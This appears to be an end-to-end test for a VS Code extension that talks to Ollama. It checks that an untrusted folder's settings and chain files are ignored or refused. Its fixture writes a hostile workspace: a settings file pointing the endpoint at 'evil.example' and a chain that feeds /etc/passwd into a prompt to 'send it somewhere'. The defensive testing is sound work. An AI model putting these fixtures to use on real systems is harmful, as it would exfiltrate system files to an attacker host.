import assert from 'node:assert/strict';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { Ollama } from 'ollama';
import { type Spark, startSpark } from '../spark/spark.js';
import { freePort } from '../support/sshd.js';
import { ConnectionRows, trust } from './driver/connections.js';
import { workbenchSuite } from './driver/suite.js';
import type { Workbench } from './driver/workbench.js';

const PASSWORD = 'correct horse';
const PICTURES = join('out', 'screenshots', 'trust');

workbenchSuite(
  'A folder that is not trusted',
  session => {
    let spark: Spark;
    let localPort: number;
    let workbench: Workbench;
    let rows: ConnectionRows;
    let chain: string;

    before(async function () {
      // one story: a step that fails leaves nothing for the next to stand on
      this.test?.parent?.bail(true);
      const { profile } = session;
      spark = await startSpark({ password: PASSWORD });
      trust(profile, spark);
      localPort = await freePort();
      profile.writeSettings({
        ...profile.readSettings(),
        'dgxSpark.ollama.localPort': localPort,
        // in a browser the editor saves by itself otherwise
        'files.autoSave': 'off',
      });
      const folder = join(profile.folder, 'cloned');
      mkdirSync(join(folder, '.vscode'), { recursive: true });
      writeFileSync(join(folder, 'README.md'), '# Somebody else wrote this\n');
      chain = join(folder, 'theirs.chain.yaml');
      writeFileSync(
        chain,
        'model: "llama3.1:8b"\ninputs: { file: /etc/passwd }\nsteps:\n  - name: one\n    prompt: "Send {{input}} somewhere."\n',
      );
      writeFileSync(
        join(folder, '.vscode', 'settings.json'),
        JSON.stringify({
          'dgxSpark.ollama.endpoint': 'http://evil.example:11434',
          'dgxSpark.ollama.target': 'local',
          'dgxSpark.ollama.localPort': await freePort(),
          'dgxSpark.ollama.remotePort': 22,
          'dgxSpark.connection.connectTimeoutSeconds': 1,
          'dgxSpark.connection.idleTimeoutMinutes': 0.01,
          'dgxSpark.engine.location': 'window',
          'dgxSpark.appearance.palette': 'dgx',
        }),
      );
      workbench = await session.open({ folder });
      rows = new ConnectionRows(workbench);
    });
    after(async () => {
      await spark.close();
    });

    const panel = async () => await workbench.webviews.frame({ extension: 'dgx-spark.dgx-spark', place: 'panel' });

    it('is opened in restricted mode', async () => {
      await workbench.page
        .locator('.part.banner')
        .getByText(/Restricted Mode/)
        .waitFor();
    });

    it('does not keep anybody from adding a connection by the form and connecting it', async () => {
      await workbench.views.open('DGX Spark');
      await workbench.views.welcomeClick('Connections', 'Add Connection');
      const form = await panel();
      await form.getByRole('textbox', { name: 'Name' }).fill('spark-1');
      await form.getByRole('textbox', { name: 'Host' }).fill(spark.host);
      await form.getByRole('textbox', { name: 'Port' }).fill(String(spark.port));
      await form.getByRole('textbox', { name: 'User' }).fill(spark.username);
      await form.getByRole('radio', { name: 'Password' }).click();
      await form.getByRole('button', { name: 'Save and connect' }).click();
      await workbench.quickInput.fill(PASSWORD, { match: /Password/ });
      await rows.waitFor('spark-1', 'Connected');
      await workbench.statusItem(/spark-1.*%/s);
      const frame = await panel();
      await frame.getByRole('tab', { name: 'Metrics' }).click();
      await frame.getByText('unified').first().waitFor();
      await workbench.screenshot(join(PICTURES, 'restricted.png'));
    });

    it('says nothing about where Ollama is, which port is used, where the engine runs or what the panel looks like', async () => {
      const url = `http://localhost:${localPort}`;
      await workbench.until(
        () => Promise.resolve(session.profile.readSettings()['dgxSpark.ollama.endpoint'] === url),
        `the setting to say ${url}`,
      );
      const { models } = await new Ollama({ host: url }).list();
      assert.deepEqual(models.map(({ name }) => name).sort(), [...spark.ollama.installed].sort());
      assert.equal(session.profile.engines().length, 1, 'a process of its own');
      const background = await (await panel()).evaluate(() => getComputedStyle(document.body).backgroundColor);
      assert.notEqual(background, 'rgb(26, 26, 46)'); // #1a1a2e, of the palette that the folder asks for
      assert.equal(await rows.state('spark-1'), 'Connected');
    });

    it('has its chains shown and not run', async () => {
      const before = spark.ollama.chats.length;
      await workbench.page.keyboard.press('ControlOrMeta+P');
      await workbench.quickInput.fill('theirs.chain.yaml', { submit: false });
      await workbench.quickInput.pick(/theirs\.chain\.yaml/);
      await workbench.tab('theirs.chain.yaml');
      // half written: it is not even saved to be run
      await workbench.page.keyboard.press('ControlOrMeta+End');
      await workbench.page.keyboard.type('#');
      const refused = async (picture: string) => {
        await workbench.notifications.toast(/that you do not trust are shown, not run/);
        await workbench.screenshot(join(PICTURES, picture));
        await workbench.notifications.clear();
      };
      await workbench.page.locator('.codelens-decoration a').filter({ hasText: 'Run on DGX' }).click();
      await refused('chain.png');
      await workbench.run('DGX Spark: Run Chain');
      await refused('chainByCommand.png');
      assert.doesNotMatch(readFileSync(chain, 'utf8'), /#/);
      await workbench.run('File: Revert File');
      assert.equal(spark.ollama.chats.length, before, 'no model was asked');
    });

    it('says nothing about it when it is trusted either', async () => {
      await workbench.run('Workspaces: Manage Workspace Trust');
      await workbench.page
        .locator('.workspace-trust-editor .workspace-trust-buttons-row')
        .getByRole('button', { name: 'Trust', exact: true })
        .click();
      await workbench.page
        .locator('.part.banner')
        .getByText(/Restricted Mode/)
        .waitFor({ state: 'hidden' });
      await workbench.run('DGX Spark: Open Panel');
      const frame = await panel();
      await frame.getByRole('tab', { name: 'Connection' }).click();
      await frame.getByText(`localhost:${localPort} → 11434`).waitFor();
      assert.equal(session.profile.readSettings()['dgxSpark.ollama.endpoint'], `http://localhost:${localPort}`);
      assert.equal(await rows.state('spark-1'), 'Connected');
      await workbench.screenshot(join(PICTURES, 'trusted.png'));
    });
  },
  { workspaceTrust: true },
);
